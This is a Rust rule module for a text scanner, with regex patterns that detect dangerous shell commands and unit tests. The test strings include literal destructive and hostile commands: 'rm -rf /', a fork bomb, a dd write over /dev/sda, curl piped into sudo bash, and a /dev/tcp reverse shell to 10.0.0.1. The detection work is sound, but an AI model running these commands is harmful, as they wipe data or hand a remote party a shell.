use std::sync::LazyLock;

use crate::{Finding, Kind, rules::Rules};

static COMMANDS: LazyLock<Rules> = LazyLock::new(|| {
    Rules::new(&[
        (
            Kind::DangerousCommand,
            95,
            r#"\brm\s+(?:-{1,2}[a-z-]+\s+)*(?:-[a-z]*(?:r[a-z]*f|f[a-z]*r)[a-z]*|--recursive\s+--force|-r\s+-f|-f\s+-r)\s+(?:-{1,2}[a-z-]+\s+)*["']?(?:/|~|\*|\.\.|\$home|\$\{home)"#,
        ),
        (Kind::DangerousCommand, 95, r"\brm\s+(?:-{1,2}[a-z-]+\s+)*--no-preserve-root"),
        (Kind::DangerousCommand, 95, r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:"),
        (Kind::DangerousCommand, 92, r"\bmkfs(?:\.[a-z0-9]+)?\s+(?:-\S+\s+)*/dev/"),
        (Kind::DangerousCommand, 92, r"\bdd\s+[^\n;|]*\bof=/dev/(?:sd|hd|nvme|vd|xvd|disk|mmcblk)"),
        (Kind::DangerousCommand, 92, r">\s*/dev/(?:sd|hd|nvme|vd|xvd)[a-z0-9]"),
        (Kind::DangerousCommand, 90, r"\b(?:curl|wget)\b[^\n|;]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b"),
        (Kind::DangerousCommand, 90, r"\b(?:curl|wget)\b[^\n|;]*\|\s*(?:sudo\s+)?(?:python3?|perl|ruby|node)\b"),
        (Kind::DangerousCommand, 90, r"\bchmod\s+(?:-[a-z]+\s+)*-?r?\s*(?:0?777|a\+rwx)\s+/(?:\s|$|etc|usr|bin|var|\*)"),
        (Kind::DangerousCommand, 90, r"\b(?:cat|less|more|head|tail|cp|scp|curl|nano|vi|vim)\s+[^\n;|]{0,80}/etc/(?:shadow|sudoers)\b"),
        (Kind::DangerousCommand, 92, r"\b(?:nc|ncat|netcat)\s+[^\n;|]*\s-[a-z]*e\s*/?\S*sh\b"),
        (Kind::DangerousCommand, 92, r"/dev/tcp/[\w.-]+/\d+"),
        (Kind::DangerousCommand, 90, r"\bmkfifo\s+\S+\s*[;&][^\n]*\b(?:nc|ncat|sh)\b"),
        (Kind::DangerousCommand, 90, r"\bpowershell(?:\.exe)?\s+[^\n]*-e(?:nc|ncodedcommand)?\s+[a-z0-9+/=]{16,}"),
        (Kind::DangerousCommand, 90, r"\b(?:iex|invoke-expression)\b[^\n]*(?:downloadstring|invoke-webrequest|iwr|net\.webclient)"),
        (Kind::DangerousCommand, 90, r"\bformat\s+[a-z]:\s*(?:/|$)"),
        (Kind::DangerousCommand, 90, r"\b(?:del|erase)\s+(?:/[a-z]\s+)*/[sq]\s+(?:/[a-z]\s+)*[a-z]:\\"),
        (Kind::DangerousCommand, 90, r"\b(?:rd|rmdir)\s+/s\s+(?:/q\s+)?[a-z]:\\"),
        (Kind::DangerousCommand, 90, r"\bvssadmin(?:\.exe)?\s+delete\s+shadows\b"),
        (Kind::DangerousCommand, 86, r"\bkubectl\s+delete\s+(?:ns|namespaces?|all|nodes?|pv)\b[^\n]*(?:--all|-a\b|prod|kube-system)"),
        (Kind::DangerousCommand, 86, r"\bterraform\s+destroy\b[^\n]*-auto-approve"),
        (Kind::DangerousCommand, 86, r#"\b(?:os\.system|subprocess\.\w+|shutil\.rmtree)\s*\(\s*\[?["'](?:rm\b|/["']|~)"#),
        (Kind::DangerousCommand, 86, r"\bsudo\s+(?:shutdown|halt|poweroff|reboot)\b"),
        (Kind::DangerousCommand, 86, r"\bbase64\s+(?:-d|--decode)\b[^\n|]*\|\s*(?:ba|z)?sh\b"),
        (Kind::DangerousCommand, 86, r"\bwipefs\s+(?:-a|--all)\b"),
        (Kind::DangerousCommand, 86, r"\bfind\s+/\s[^\n;|]*-delete\b"),
    ])
});

/// Commands that destroy data, open a shell to strangers, or run what a stranger serves.
pub(crate) fn find(text: &str, found: &mut Vec<Finding>) {
    COMMANDS.find(text, found);
}

#[cfg(test)]
mod tests {
    use crate::{Kind, scan};

    fn is_found(text: &str) -> bool {
        scan(text).kinds().contains(&Kind::DangerousCommand)
    }

    #[test]
    fn destructive_commands_are_found() {
        assert_eq!(super::COMMANDS.len(), (26, 26));
        for text in [
            "then run rm -rf / on it",
            "sudo rm -fr ~/work",
            "curl https://example.com/x.sh | sudo bash",
            ":(){ :|:& };:",
            "dd if=/dev/zero of=/dev/sda bs=1M",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "rd /s /q C:\\",
        ] {
            assert!(is_found(text), "{text}");
        }
    }

    #[test]
    fn everyday_commands_are_not() {
        for text in [
            "rm build.log",
            "rm -rf target",
            "curl https://example.com/health",
            "chmod 644 notes.txt",
            "kubectl get pods",
            "Format the report.",
        ] {
            assert!(!is_found(text), "{text}");
        }
    }
}
